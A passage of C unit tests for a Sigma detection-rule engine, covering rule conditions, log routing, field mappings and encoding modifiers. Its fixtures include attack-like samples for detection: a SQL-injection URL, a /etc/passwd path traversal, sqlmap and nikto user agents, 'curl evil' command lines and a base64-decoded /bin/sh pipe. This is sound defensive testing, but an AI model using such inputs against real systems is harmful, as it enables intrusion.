    cs_ruleset_free(rs);
    snprintf(buf, sizeof buf, RULE("%s  condition: all of them\n"), det);
    rs = load_ok(buf);
    assert_true(mabc(rs, "abd"));   /* c (in _private) not needed */
    assert_false(mabc(rs, "abc"));
    cs_ruleset_free(rs);

    /* any of = 1 of; an explicit pattern may name _ identifiers; exact name as pattern */
    snprintf(buf, sizeof buf, RULE("%s  condition: any of _priv* or all of filter_d\n"), det);
    rs = load_ok(buf);
    assert_true(mabc(rs, "c"));
    assert_true(mabc(rs, "d"));
    assert_false(mabc(rs, "ab"));
    cs_ruleset_free(rs);

    /* pattern with * in the middle, and not 1 of */
    snprintf(buf, sizeof buf, RULE("%s  condition: not 1 of sel*_b\n"), det);
    rs = load_ok(buf);
    assert_false(mabc(rs, "b"));
    assert_true(mabc(rs, "a"));
    cs_ruleset_free(rs);
}

static void test_metadata_and_multidoc(void **state)
{
    const char *y = "title: First\n"
                    "id: 11111111-2222-3333-4444-555555555555\n"
                    "name: first_rule\n"
                    "status: test\n"
                    "description: |\n  two\n  lines\n"
                    "author: Someone\n"
                    "references:\n  - https://example.org/a\n  - https://example.org/b\n"
                    "tags:\n  - attack.credential-access\n  - attack.t1110.001\n"
                    "level: HIGH\n"
                    "date: 2024-01-02\n"
                    "falsepositives:\n  - admins\n"
                    "fields:\n  - a\n"
                    "custom_key:\n  nested: [1, 2]\n"
                    "logsource:\n  product: linux\n  service: sshd\n"
                    "detection:\n  s:\n    a: 1\n  condition: s\n"
                    "---\n"
                    "title: Correlation\n"
                    "correlation:\n  type: event_count\n  rules: [first_rule]\n  timespan: 1m\n"
                    "---\n"
                    "title: Second\n"
                    "logsource:\n  category: webserver\n"
                    "detection:\n  s:\n    b: 1\n  condition: s\n"
                    "---\n"
                    "title: A filter\n"
                    "filter:\n  rules: [first_rule]\n  s:\n    c: 1\n  condition: not s\n"
                    "---\n";
    cs_ruleset *rs = load_ok(y);
    const cs_rule_info *in;
    (void)state;
    assert_int_equal(cs_ruleset_count(rs), 2);
    in = cs_rule_get_info(cs_ruleset_rule(rs, 0));
    assert_string_equal(in->title, "First");
    assert_string_equal(in->id, "11111111-2222-3333-4444-555555555555");
    assert_string_equal(in->name, "first_rule");
    assert_string_equal(in->status, "test");
    assert_string_equal(in->description, "two\nlines\n");
    assert_string_equal(in->author, "Someone");
    assert_string_equal(in->level, "high");
    assert_int_equal(in->ntags, 2);
    assert_string_equal(in->tags[1], "attack.t1110.001");
    assert_int_equal(in->nreferences, 2);
    assert_string_equal(in->references[0], "https://example.org/a");
    assert_string_equal(in->product, "linux");
    assert_string_equal(in->category, "");
    assert_string_equal(in->service, "sshd");
    assert_string_equal(in->path, "test.yml");
    assert_int_equal(in->line, 1);
    in = cs_rule_get_info(cs_ruleset_rule(rs, 1));
    assert_string_equal(in->title, "Second");
    assert_string_equal(in->id, "");
    assert_string_equal(in->level, "");
    assert_int_equal(in->ntags, 0);
    assert_string_equal(in->category, "webserver");
    assert_int_equal(in->line, 37);
    assert_null(cs_ruleset_rule(rs, 2));

    /* the filter document ("not s" on c) takes First out unless c is 1 */
    {
        cs_event *ev = ev_str("b", "1", "a", "1", NULL);
        assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 1);
        assert_false(cs_rule_match(cs_ruleset_rule(rs, 0), ev));
        cs_event_free(ev);
    }
    /* both match; cs_rule_match() tests one rule */
    {
        cs_event *ev = ev_str("b", "1", "a", "1", "c", "1", NULL);
        assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 2);
        assert_true(cs_rule_match(cs_ruleset_rule(rs, 0), ev));
        cs_event_free(ev);
        ev = ev_str("b", "1", NULL);
        assert_false(cs_rule_match(cs_ruleset_rule(rs, 0), ev));
        assert_true(cs_rule_match(cs_ruleset_rule(rs, 1), ev));
        cs_event_free(ev);
    }
    cs_ruleset_free(rs);
}

static void collect_cb(const cs_rule *rule, const cs_event *ev, void *ud)
{
    const cs_rule **v = ud;
    (void)ev;
    while (*v != NULL) {
        v++;
    }
    *v = rule;
}

static void test_match_callback_order(void **state)
{
    const char *y = RULE("  s:\n    a: 1\n  condition: s\n") "---\n" RULE("  s:\n    b: 1\n  condition: s\n")
        "---\n" RULE("  s:\n    a: 1\n  condition: not s\n") "---\n" RULE("  s:\n    a|startswith: 1\n  condition: s\n");
    cs_ruleset *rs = load_ok(y);
    const cs_rule *got[8] = {0};
    cs_event *ev = ev_str("a", "1", "b", "1", NULL);
    (void)state;
    assert_int_equal(cs_ruleset_count(rs), 4);
    assert_int_equal(cs_ruleset_match(rs, ev, collect_cb, got), 3);
    assert_ptr_equal(got[0], cs_ruleset_rule(rs, 0));
    assert_ptr_equal(got[1], cs_ruleset_rule(rs, 1));
    assert_ptr_equal(got[2], cs_ruleset_rule(rs, 3));
    assert_null(got[3]);
    cs_event_free(ev);
    cs_ruleset_free(rs);
}

/* ------------------------------------------------- logsource routing -- */

static cs_event *parse_line(cs_log_format fmt, const char *line)
{
    cs_event *ev = NULL;
    cs_log_ctx ctx;
    memset(&ctx, 0, sizeof ctx);
    ctx.received_us = 1700000000000000LL;
    assert_int_equal(cs_log_parse_line(fmt, line, strlen(line), &ctx, &ev), CS_OK);
    assert_non_null(ev);
    return ev;
}

static void test_logsource_routing(void **state)
{
    const char *y = "title: sshd keyword\nlogsource:\n  product: linux\n  service: sshd\n"
                    "detection:\n  k:\n    - 'Failed password'\n  condition: k\n"
                    "---\n"
                    "title: web keyword\nlogsource:\n  category: webserver\n"
                    "detection:\n  k:\n    - 'Failed password'\n  condition: k\n"
                    "---\n"
                    "title: any linux\nlogsource:\n  product: LINUX\n"
                    "detection:\n  k:\n    - 'Failed password'\n  condition: k\n"
                    "---\n"
                    "title: syslog\nlogsource:\n  product: linux\n  service: syslog\n"
                    "detection:\n  k:\n    - 'Failed password'\n  condition: k\n"
                    "---\n"
                    "title: webserver field\nlogsource:\n  category: webserver\n"
                    "detection:\n  s:\n    cs-method: GET\n    cs-uri-query|contains: 'Failed'\n  condition: s\n"
                    "---\n"
                    "title: dns\nlogsource:\n  category: dns\n"
                    "detection:\n  k:\n    - 'Failed password'\n  condition: k\n";
    cs_ruleset *rs = load_ok(y);
    const cs_rule *got[8] = {0};
    cs_event *ev;
    (void)state;
    assert_int_equal(cs_ruleset_count(rs), 6);

    /* sshd line: sshd, any-linux and syslog rules; not the web or dns ones */
    ev = parse_line(CS_LOGFMT_SYSLOG, "<38>Mar  3 10:00:00 host sshd[12]: Failed password for root from "
                                      "203.0.113.5 port 2222 ssh2");
    assert_int_equal(cs_ruleset_match(rs, ev, collect_cb, got), 3);
    assert_ptr_equal(got[0], cs_ruleset_rule(rs, 0));
    assert_ptr_equal(got[1], cs_ruleset_rule(rs, 2));
    assert_ptr_equal(got[2], cs_ruleset_rule(rs, 3));
    assert_true(cs_rule_applies(cs_ruleset_rule(rs, 0), ev));
    assert_false(cs_rule_applies(cs_ruleset_rule(rs, 1), ev));
    cs_event_free(ev);

    /* nginx access line with the same words: the webserver rules only */
    memset(got, 0, sizeof got);
    ev = parse_line(CS_LOGFMT_ACCESS, "203.0.113.5 - - [03/Mar/2024:10:00:00 +0000] \"GET /Failed%20password?x=Failed"
                                      " HTTP/1.1\" 404 12 \"-\" \"Failed password\"");
    assert_int_equal(cs_ruleset_match(rs, ev, collect_cb, got), 2);
    assert_ptr_equal(got[0], cs_ruleset_rule(rs, 1));
    assert_ptr_equal(got[1], cs_ruleset_rule(rs, 4));
    assert_false(cs_rule_match(cs_ruleset_rule(rs, 0), ev) && cs_rule_applies(cs_ruleset_rule(rs, 0), ev));
    cs_event_free(ev);

    /* a linux event from an unknown program has service = its name: not sshd */
    memset(got, 0, sizeof got);
    ev = parse_line(CS_LOGFMT_SYSLOG, "<38>Mar  3 10:00:00 host myapp[12]: Failed password for bob");
    assert_int_equal(cs_ruleset_match(rs, ev, collect_cb, got), 2);
    assert_ptr_equal(got[0], cs_ruleset_rule(rs, 2));
    assert_ptr_equal(got[1], cs_ruleset_rule(rs, 3));
    cs_event_free(ev);

    /* an event with no logsource at all is matched against every rule */
    ev = ev_str("message", "Failed password", "cs-method", "get", "cs-uri-query", "/Failed", NULL);
    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 6);
    cs_event_free(ev);

    /* a packet-sensor event (no logsource) does not reach rules naming a
     * service; a hand-built log event without logsource does */
    {
        const char *z = "title: zeek not\nlogsource:\n  product: zeek\n  service: rdp\n"
                        "detection:\n  s:\n    id.orig_h|cidr: 10.0.0.0/8\n  condition: not s\n"
                        "---\ntitle: fw\nlogsource:\n  category: firewall\n"
                        "detection:\n  s:\n    destination.port: 3389\n  condition: s\n";
        cs_ruleset *zs = load_ok(z);
        cs_event *fl = cs_event_new(CS_KIND_FLOW, 0);
        assert_int_equal(cs_event_add_int(&fl, fid("destination.port"), 3389), CS_OK);
        assert_int_equal(cs_ruleset_match(zs, fl, collect_cb, (memset(got, 0, sizeof got), got)), 1);
        assert_ptr_equal(got[0], cs_ruleset_rule(zs, 1));
        assert_false(cs_rule_applies(cs_ruleset_rule(zs, 0), fl));
        cs_event_free(fl);
        fl = ev_str("x", "y", NULL);
        assert_int_equal(cs_ruleset_match(zs, fl, NULL, NULL), 1);   /* CS_KIND_LOG: zeek rule applies */
        assert_true(cs_rule_applies(cs_ruleset_rule(zs, 0), fl));
        cs_event_free(fl);
        cs_ruleset_free(zs);
    }

    /* a logsource with only a category: rules naming a product do not apply */
    ev = ev_str("message", "Failed password", "citysoc.logsource.category", "dns", NULL);
    assert_int_equal(cs_ruleset_match(rs, ev, collect_cb, (memset(got, 0, sizeof got), got)), 1);
    assert_ptr_equal(got[0], cs_ruleset_rule(rs, 5));
    cs_event_free(ev);
    cs_ruleset_free(rs);
}

/* The bundled rules: sshd on real sshd lines only; product citysoc on flows
 * (no logsource) and on access logs alike. */
static void test_logsource_bundled_rules(void **state)
{
    const char *src = getenv("CS_SOURCE_DIR");
    char path[1024];
    cs_ruleset *rs = NULL;
    cs_event *ev;
    (void)state;
    static const char *const files[] = {"linux/sshd_auth_failure.yml", "web/web_sql_injection_url.yml",
                                        "web/web_attack_tool_user_agent.yml", "web/web_path_traversal_url.yml"};
    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        snprintf(path, sizeof path, "%s/rules/sigma/%s", src != NULL && src[0] != '\0' ? src : ".", files[i]);
        assert_int_equal(cs_ruleset_load_path(rs, path, NULL, NULL), CS_OK);
    }
    assert_int_equal(cs_ruleset_count(rs), 4);

    ev = cs_event_new(CS_KIND_FLOW, 0);
    assert_int_equal(cs_event_add_cstr(&ev, fid("url.original"), "/x.php?id=1%27%20or%20%271%27=%271"), CS_OK);
    assert_int_equal(cs_event_add_cstr(&ev, fid("user_agent.original"), "sqlmap/1.7"), CS_OK);
    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 2);
    cs_event_free(ev);

    ev = parse_line(CS_LOGFMT_ACCESS, "203.0.113.5 - - [03/Mar/2024:10:00:00 +0000] \"GET /../../etc/passwd"
                                      " HTTP/1.1\" 404 12 \"-\" \"nikto\"");
    assert_true(cs_ruleset_match(rs, ev, NULL, NULL) >= 1);
    cs_event_free(ev);

    ev = parse_line(CS_LOGFMT_SYSLOG, "<38>Mar  3 10:00:00 host sshd[12]: Failed password for root from "
                                      "203.0.113.5 port 2222 ssh2");
    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 1);
    cs_event_free(ev);
    /* the same message from nginx's error log does not reach the sshd rule */
    ev = parse_line(CS_LOGFMT_NGINX_ERROR, "2024/03/03 10:00:00 [error] 12#12: *1 Failed password for root, "
                                           "client: 203.0.113.5");
    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 0);
    cs_event_free(ev);
    cs_ruleset_free(rs);
}

/* ------------------------------------------------------ field mappings -- */

static char *write_tmp(const char *dir, const char *name, const char *text)
{
    static char path[512];
    FILE *fp;
    snprintf(path, sizeof path, "%s/%s", dir, name);
    fp = fopen(path, "w");
    assert_non_null(fp);
    assert_int_equal(fputs(text, fp) >= 0, 1);
    assert_int_equal(fclose(fp), 0);
    return path;
}

static void test_field_mappings(void **state)
{
    char dir[] = "/tmp/cs_sigma_map_XXXXXX";
    const char *map = "name: t\nmappings:\n"
                      "  - logsource: {product: linux, category: process_creation}\n"
                      "    fields:\n      Image: process.executable\n      CommandLine: process.command_line\n"
                      "  - logsource: {category: dns}\n    fields:\n      query: dns.question.name\n"
                      "  - fields:\n      Image: other.image\n";
    const char *rules = "title: pc\nlogsource:\n  product: linux\n  category: process_creation\n"
                        "detection:\n  s:\n    Image|endswith: /curl\n    CommandLine|contains: evil\n"
                        "    CommandLine|fieldref: CommandLine\n  condition: s\n"
                        "---\n"
                        "title: dns\nlogsource:\n  category: dns\n"
                        "detection:\n  s:\n    query|endswith: .evil.example\n  condition: s\n"
                        "---\n"
                        "title: unmapped\nlogsource:\n  product: windows\n"
                        "detection:\n  s:\n    Image|endswith: /curl\n    Unmapped: x\n  condition: s\n";
    cs_ruleset *rs = NULL;
    cs_event *ev;
    const cs_rule *got[8] = {0};
    (void)state;
    assert_non_null(mkdtemp(dir));
    write_tmp(dir, "a.yml", map);
    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
    assert_int_equal(cs_ruleset_load_mappings(rs, dir), CS_OK);
    assert_int_equal(cs_ruleset_mapping_count(rs), 4);
    assert_int_equal(cs_ruleset_load_string(rs, "r.yml", rules, strlen(rules), NULL, NULL), CS_OK);

    /* the mapped names are what the rule looks at */
    ev = ev_str("process.executable", "/usr/bin/curl", "process.command_line", "curl EVIL", NULL);
    assert_int_equal(cs_ruleset_match(rs, ev, collect_cb, got), 1);
    assert_ptr_equal(got[0], cs_ruleset_rule(rs, 0));
    cs_event_free(ev);
    ev = ev_str("Image", "/usr/bin/curl", "CommandLine", "curl evil", NULL);
    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 0);
    cs_event_free(ev);
    ev = ev_str("dns.question.name", "a.EVIL.example", NULL);
    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 1);
    cs_event_free(ev);
    /* a logsource no entry names but the catch-all: Image -> other.image;
     * Unmapped keeps its own name */
    ev = ev_str("other.image", "/bin/curl", "Unmapped", "x", NULL);
    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 1);
    cs_event_free(ev);
    ev = ev_str("Image", "/bin/curl", "Unmapped", "x", NULL);
    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 0);
    cs_event_free(ev);
    cs_ruleset_free(rs);

    /* refusals name file:line; a refused file adds nothing */
    {
        static const struct {
            const char *text;
            int line;
            const char *what;
        } bad[] = {
            {"mappings:\n  - fields:\n      a: b\nextra: 1\n", 4, "unknown key 'extra'"},
            {"mappings:\n  - fields:\n      a: b\n    logsorce: {}\n", 4, "unknown key 'logsorce'"},
            {"mappings:\n  - logsource: {product: linux, os: x}\n    fields: {a: b}\n", 2, "unknown key 'os'"},
            {"mappings:\n  - logsource: {product: linux}\n", 2, "needs 'fields'"},
            {"mappings:\n  - fields:\n      a: [b]\n", 3, "event field name"},
            {"mappings:\n  - fields:\n      a|contains: b\n", 3, "no modifiers"},
            {"mappings: 3\n", 1, "list of entries"},
        };
        for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
            char where[600];
            char *path = write_tmp(dir, "bad.yml", bad[i].text);
            assert_int_equal(cs_ruleset_new(&rs), CS_OK);
            assert_int_equal(cs_ruleset_load_mappings(rs, path), CS_ERR_CONFIG);
            snprintf(where, sizeof where, "bad.yml:%d:", bad[i].line);
            if (strstr(cs_err_msg(), where) == NULL || strstr(cs_err_msg(), bad[i].what) == NULL) {
                print_error("case %zu: '%s'\n", i, cs_err_msg());
            }
            assert_non_null(strstr(cs_err_msg(), where));
            assert_non_null(strstr(cs_err_msg(), bad[i].what));
            assert_int_equal(cs_ruleset_mapping_count(rs), 0);
            cs_ruleset_free(rs);
            unlink(path);
        }
    }
    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
    assert_int_equal(cs_ruleset_load_mappings(rs, "/nonexistent/cs_maps"), CS_ERR_IO);
    cs_ruleset_free(rs);
    unlink(write_tmp(dir, "a.yml", ""));
    rmdir(dir);
}

/* The shipped rules/mappings load, and a SigmaHQ-style firewall rule runs on
 * a flow event's ECS fields through them. */
static void test_shipped_mappings(void **state)
{
    const char *src = getenv("CS_SOURCE_DIR");
    const char *rule = "title: fw\nlogsource:\n  category: firewall\n"
                       "detection:\n  s:\n    dst_ip|cidr: 10.0.0.0/8\n    dst_port: 445\n  condition: s\n";
    char path[1024];
    cs_ruleset *rs = NULL;
    cs_event *ev;
    cs_ip ip;
    (void)state;
    snprintf(path, sizeof path, "%s/rules/mappings", src != NULL && src[0] != '\0' ? src : ".");
    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
    if (cs_ruleset_load_mappings(rs, path) != CS_OK) {
        print_error("%s\n", cs_err_msg());
        fail();
    }
    assert_true(cs_ruleset_mapping_count(rs) >= 10);
    assert_int_equal(cs_ruleset_load_string(rs, "fw.yml", rule, strlen(rule), NULL, NULL), CS_OK);
    ev = cs_event_new(CS_KIND_FLOW, 0);
    assert_true(cs_ip_parse("10.1.2.3", 8, &ip));
    assert_int_equal(cs_event_add_ip(&ev, fid("destination.ip"), &ip), CS_OK);
    assert_int_equal(cs_event_add_int(&ev, fid("destination.port"), 445), CS_OK);
    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 1);
    cs_event_free(ev);
    cs_ruleset_free(rs);
}

/* -------------------------------------------------------------- refusals -- */

/* -------------------------------------------------- v2.1 modifiers -- */

/* A rule with one item "a|<mods>: <val>" (val is YAML text). */
static cs_ruleset *one_item(const char *mods, const char *val)
{
    char y[4096];
    snprintf(y, sizeof y, RULE("  s:\n    a%s: %s\n  condition: s\n"), mods, val);
    return load_ok(y);
}

static cs_event *ev_int(const char *name, int64_t v)
{
    cs_event *ev = cs_event_new(CS_KIND_LOG, 0);
    assert_non_null(ev);
    assert_int_equal(cs_event_add_int(&ev, fid(name), v), CS_OK);
    return ev;
}

/* Match one rule and free the event. */
static bool r1(const cs_rule *r, cs_event *ev)
{
    bool hit = cs_rule_match(r, ev);
    cs_event_free(ev);
    return hit;
}

static bool m_ev(const cs_ruleset *rs, cs_event *ev)
{
    bool r = matches(rs, ev);
    cs_event_free(ev);
    return r;
}

static void test_neq(void **state)
{
    cs_ruleset *rs;
    cs_event *ev;
    (void)state;
    rs = one_item("|neq", "foo");
    assert_false(m1(rs, "a", "foo"));
    assert_false(m1(rs, "a", "FOO"));
    assert_true(m1(rs, "a", "bar"));
    assert_true(m1(rs, "a", ""));
    assert_false(m1(rs, "b", "bar"));   /* absent field: no match (documented choice) */
    ev = cs_event_new(CS_KIND_LOG, 0);
    assert_false(m_ev(rs, ev));
    cs_ruleset_free(rs);
    /* a list: differs from every value; with contains */
    rs = one_item("|neq", "[foo, bar]");
    assert_false(m1(rs, "a", "bar"));
    assert_true(m1(rs, "a", "baz"));
    cs_ruleset_free(rs);
    rs = one_item("|contains|neq", "evil");
    assert_false(m1(rs, "a", "so EVIL here"));
    assert_true(m1(rs, "a", "good"));
    cs_ruleset_free(rs);
    /* numbers: int field */
    rs = one_item("|neq", "4");
    assert_false(m_ev(rs, ev_int("a", 4)));
    assert_true(m_ev(rs, ev_int("a", 5)));
    cs_ruleset_free(rs);
    /* under not: not (a|neq foo) = a is foo, or a is absent */
    rs = load_ok(RULE("  s:\n    a|neq: foo\n  condition: not s\n"));
    assert_true(m1(rs, "a", "foo"));
    assert_true(m1(rs, "b", "x"));
    assert_false(m1(rs, "a", "bar"));
    cs_ruleset_free(rs);
}

static bool has_variant(const cs_ruleset *rs, const char *text)
{
    return m1(rs, "a", text);
}

static void test_windash(void **state)
{
    cs_ruleset *rs;
    static const char *const d[] = {"-", "/", "\xe2\x80\x93", "\xe2\x80\x94", "\xe2\x80\x95"};
    char buf[128];
    (void)state;
    rs = one_item("|windash", "'cmd -a /b'");
    /* all 25 permutations of the two options */
    for (int i = 0; i < 5; i++) {
        for (int j = 0; j < 5; j++) {
            snprintf(buf, sizeof buf, "cmd %sa %sb", d[i], d[j]);
            assert_true(has_variant(rs, buf));
        }
    }
    assert_false(has_variant(rs, "cmd +a /b"));
    assert_false(has_variant(rs, "cmd -a  /b"));
    cs_ruleset_free(rs);
    /* only \B[-/]\b: a '-' inside a word or before a non-word stays as it is */
    rs = one_item("|windash|contains", "'foo-bar -x - y'");
    assert_true(has_variant(rs, "run foo-bar /x - y now"));
    assert_true(has_variant(rs, "run foo-bar \xe2\x80\x94x - y"));
    assert_false(has_variant(rs, "run foo/bar -x - y"));
    assert_false(has_variant(rs, "run foo-bar -x / y"));
    cs_ruleset_free(rs);
    /* order of modifiers does not matter; start of string counts as \B */
    rs = one_item("|contains|windash", "'-enc'");
    assert_true(has_variant(rs, "powershell /ENC abc"));
    assert_true(has_variant(rs, "powershell \xe2\x80\x95" "enc abc"));
    assert_false(has_variant(rs, "powershell enc abc"));
    cs_ruleset_free(rs);
    /* with |all: each value with its own alternatives, AND-ed */
    rs = one_item("|windash|contains|all", "['-a', '-b']");
    assert_true(has_variant(rs, "x /a /b"));
    assert_true(has_variant(rs, "x -b \xe2\x80\x93" "a"));
    assert_false(has_variant(rs, "x /a"));
    cs_ruleset_free(rs);
}

static void test_base64(void **state)
{
    cs_ruleset *rs;
    (void)state;
    rs = one_item("|base64", "foobar");
    assert_true(m1(rs, "a", "Zm9vYmFy"));
    assert_false(m1(rs, "a", "foobar"));
    assert_false(m1(rs, "a", "xZm9vYmFy"));
    cs_ruleset_free(rs);
    rs = one_item("|base64|contains", "'/bin/sh'");
    assert_true(m1(rs, "a", "echo L2Jpbi9zaA== | base64 -d"));
    cs_ruleset_free(rs);
    /* the three pySigma base64offset vectors, each on its own */
    rs = one_item("|base64offset|contains", "foobar");
    assert_true(m1(rs, "a", "Zm9vYmFy"));
    assert_true(m1(rs, "a", "Zvb2Jhc"));
    assert_true(m1(rs, "a", "mb29iYX"));
    assert_true(m1(rs, "a", "xx Zvb2JhcGc= yy"));
    assert_false(m1(rs, "a", "Zm9vYmE"));
    assert_false(m1(rs, "a", "foobar"));
    cs_ruleset_free(rs);
    /* real offsets: the value inside longer encoded data, at each shift */
    rs = one_item("|base64offset|contains", "'http'");
    assert_true(m1(rs, "a", "aHR0cDovL2V2aWw="));       /* b64("http://evil") */
    assert_true(m1(rs, "a", "eGh0dHA6Ly9ldmls"));       /* b64("xhttp://evil") */
    assert_true(m1(rs, "a", "eHhodHRwOi8vZXZpbA=="));   /* b64("xxhttp://evil") */
    assert_false(m1(rs, "a", "ZnRwOi8vZXZpbA=="));      /* b64("ftp://evil") */
    cs_ruleset_free(rs);
}

static void test_utf16(void **state)
{
    cs_ruleset *rs;
    cs_event *ev;
    (void)state;
    /* wide: "ab" = 'a' 0 'b' 0 */
    rs = one_item("|wide|contains", "ab");
    ev = cs_event_new(CS_KIND_LOG, 0);
    assert_int_equal(cs_event_add_str(&ev, fid("a"), "x\0a\0b\0y", 7), CS_OK);
    assert_true(m_ev(rs, ev));
    assert_false(m1(rs, "a", "ab"));
    cs_ruleset_free(rs);
    rs = one_item("|utf16be", "ab");
    ev = cs_event_new(CS_KIND_LOG, 0);
    assert_int_equal(cs_event_add_str(&ev, fid("a"), "\0a\0b", 4), CS_OK);
    assert_true(m_ev(rs, ev));
    cs_ruleset_free(rs);
    /* the encodings are tested through base64, as rules use them */
    rs = one_item("|utf16le|base64", "ab");
    assert_true(m1(rs, "a", "YQBiAA=="));   /* b64("a\0b\0") */
    cs_ruleset_free(rs);
    rs = one_item("|utf16be|base64", "ab");
    assert_true(m1(rs, "a", "AGEAYg=="));   /* b64("\0a\0b") */
    cs_ruleset_free(rs);
    rs = one_item("|utf16|base64", "ab");
    assert_true(m1(rs, "a", "//5hAGIA"));   /* b64("\xff\xfe" "a\0b\0") */
    cs_ruleset_free(rs);
    rs = one_item("|wide|base64", "'\xc3\xa9'");   /* e-acute: U+00E9 -> e9 00 */
    assert_true(m1(rs, "a", "6QA="));
    cs_ruleset_free(rs);
    rs = one_item("|wide|base64", "'\xe2\x82\xac'");   /* euro sign U+20AC -> ac 20 */
    assert_true(m1(rs, "a", "rCA="));
    cs_ruleset_free(rs);
    rs = one_item("|wide|base64", "'\xf0\x9f\x98\x80'");   /* U+1F600: surrogates d83d de00 */
    assert_true(m1(rs, "a", "PdgA3g=="));
    cs_ruleset_free(rs);
    /* the chain SigmaHQ uses: |wide|base64offset|contains */
    rs = one_item("|wide|base64offset|contains", "'ping'");
    /* b64(utf16le("ping")), b64(utf16le(" ping")), b64(utf16le("  ping")) */
    assert_true(m1(rs, "a", "-enc cABpAG4AZwA="));
    assert_true(m1(rs, "a", "-enc IABwAGkAbgBnAA=="));
    assert_true(m1(rs, "a", "-enc IAAgAHAAaQBuAGcA"));
    assert_false(m1(rs, "a", "-enc cABvAG4AZwA="));   /* "pong" */
    assert_false(m1(rs, "a", "ping"));
    cs_ruleset_free(rs);
}

static void test_numeric_compare(void **state)
{
    cs_ruleset *rs;
    cs_event *ev;
    (void)state;
    rs = one_item("|gt", "10");
    assert_true(m_ev(rs, ev_int("a", 11)));
    assert_false(m_ev(rs, ev_int("a", 10)));
    assert_true(m1(rs, "a", "11"));
    assert_true(m1(rs, "a", "10.5"));
    assert_false(m1(rs, "a", "9"));
    assert_false(m1(rs, "a", "eleven"));
    assert_false(m1(rs, "a", ""));
    ev = cs_event_new(CS_KIND_LOG, 0);
    assert_int_equal(cs_event_add_float(&ev, fid("a"), 10.25), CS_OK);
    assert_true(m_ev(rs, ev));
    assert_false(m1(rs, "b", "100"));
    cs_ruleset_free(rs);
    rs = one_item("|gte", "10");
    assert_true(m_ev(rs, ev_int("a", 10)));
    assert_false(m_ev(rs, ev_int("a", 9)));
    cs_ruleset_free(rs);
    rs = one_item("|lt", "-1.5");
    assert_true(m_ev(rs, ev_int("a", -2)));
    assert_false(m_ev(rs, ev_int("a", -1)));
    assert_true(m1(rs, "a", "-1.6"));
    cs_ruleset_free(rs);
    rs = one_item("|lte", "1024");
    assert_true(m_ev(rs, ev_int("a", 1024)));
    assert_false(m_ev(rs, ev_int("a", 1025)));
    ev = ev_ip(fid("a"), "10.0.0.1");
    assert_false(m_ev(rs, ev));   /* not a number */
    cs_ruleset_free(rs);
    /* a range as two items */
    rs = load_ok(RULE("  s:\n    a|gte: 1024\n    a|lt: 49152\n  condition: s\n"));
    assert_true(m_ev(rs, ev_int("a", 8080)));
    assert_false(m_ev(rs, ev_int("a", 80)));
    assert_false(m_ev(rs, ev_int("a", 50000)));
    cs_ruleset_free(rs);
}

static void test_fieldref(void **state)
{
    cs_ruleset *rs;
    cs_event *ev;
    (void)state;
    rs = one_item("|fieldref", "b");
    assert_true(m_ev(rs, ev_str("a", "Alice", "b", "alice", NULL)));
    assert_false(m_ev(rs, ev_str("a", "alice", "b", "bob", NULL)));
    assert_false(m_ev(rs, ev_str("a", "alice", NULL)));   /* other field absent */
    assert_false(m_ev(rs, ev_str("b", "alice", NULL)));
    ev = ev_int("a", 42);
    assert_int_equal(cs_event_add_cstr(&ev, fid("b"), "42"), CS_OK);
    assert_true(m_ev(rs, ev));   /* compared as text */
    cs_ruleset_free(rs);
    rs = one_item("|fieldref|cased", "b");
    assert_false(m_ev(rs, ev_str("a", "Alice", "b", "alice", NULL)));
    assert_true(m_ev(rs, ev_str("a", "alice", "b", "alice", NULL)));
    cs_ruleset_free(rs);
    rs = one_item("|fieldref|contains", "b");
    assert_true(m_ev(rs, ev_str("a", "/home/ALICE/x", "b", "alice", NULL)));
    assert_false(m_ev(rs, ev_str("a", "/home/bob/x", "b", "alice", NULL)));
    cs_ruleset_free(rs);
    rs = one_item("|fieldref|startswith", "b");
    assert_true(m_ev(rs, ev_str("a", "alice-x", "b", "alice", NULL)));
    assert_false(m_ev(rs, ev_str("a", "x-alice", "b", "alice", NULL)));
    cs_ruleset_free(rs);
    rs = one_item("|fieldref|endswith", "b");
    assert_true(m_ev(rs, ev_str("a", "x-alice", "b", "alice", NULL)));
    assert_false(m_ev(rs, ev_str("a", "alice-x", "b", "alice", NULL)));
    cs_ruleset_free(rs);
    rs = one_item("|fieldref|neq", "b");
    assert_true(m_ev(rs, ev_str("a", "alice", "b", "bob", NULL)));
    assert_false(m_ev(rs, ev_str("a", "alice", "b", "alice", NULL)));
    cs_ruleset_free(rs);
}

static void test_expand(void **state)
{
    static const char *const admins[] = {"root", "admin*"};
    static const char *const hosts[] = {"db", "web"};
    static const char *const none[] = {NULL};
    cs_ruleset *rs = NULL;
    errs e = {0};
    const char *y = RULE("  s:\n    a|expand: '%Admins%'\n  condition: s\n");
    const char *y2 = RULE("  s:\n    a|expand|contains: '%Admins%@%Hosts%'\n  condition: s\n");
    (void)state;
    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
    assert_int_equal(cs_ruleset_set_placeholder(rs, "Admins", admins, 2), CS_OK);
    assert_int_equal(cs_ruleset_set_placeholder(rs, "Hosts", hosts, 2), CS_OK);
    assert_int_equal(cs_ruleset_set_placeholder(rs, "bad name", admins, 2), CS_ERR_INVAL);
    assert_int_equal(cs_ruleset_set_placeholder(rs, "x", none, 1), CS_ERR_INVAL);
    assert_int_equal(cs_ruleset_load_string(rs, "test.yml", y, strlen(y), on_err, &e), CS_OK);
    assert_int_equal(cs_ruleset_load_string(rs, "test2.yml", y2, strlen(y2), on_err, &e), CS_OK);
    assert_int_equal(e.n, 0);
    assert_true(r1(cs_ruleset_rule(rs, 0), ev_str("a", "ROOT", NULL)));
